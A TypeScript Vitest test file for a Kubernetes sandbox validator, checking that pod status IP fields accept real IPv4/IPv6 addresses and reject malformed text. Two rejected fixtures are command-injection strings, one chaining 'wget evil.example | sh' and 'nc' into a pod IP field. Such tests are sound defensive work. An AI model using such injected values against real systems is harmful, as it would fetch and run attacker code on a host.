import { expect, test } from "vitest";
import type { KubeObject } from "../../../lib/sandbox/kubernetes/model/object.ts";
import { podCauses } from "../../../lib/sandbox/kubernetes/validation/pods.ts";

const podWith = (status: object): KubeObject =>
  ({
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "one", namespace: "default" },
    spec: { containers: [{ name: "one", image: "one:1" }] },
    status,
  }) as unknown as KubeObject;

test.each([[{ podIP: "10.132.0.5", podIPs: [{ ip: "10.132.0.5" }] }], [{ podIP: "2001:db8::1" }], [{}]])(
  "A pod's reported address is taken: %j",
  (status) => {
    expect(podCauses(podWith(status))).toEqual([]);
  },
);

test.each([
  [{ podIP: "10.0.0.5 8080; wget evil.example | sh; nc" }],
  [{ podIP: "10.0.0.5;id", podIPs: [{ ip: "10.0.0.5" }] }],
  [{ podIPs: [{ ip: "localhost" }] }],
])("A kubelet's text that is no address is refused: %j", (status) => {
  expect(podCauses(podWith(status))).toMatchObject([{ field: "status.podIPs[0]", reason: "FieldValueInvalid" }]);
});
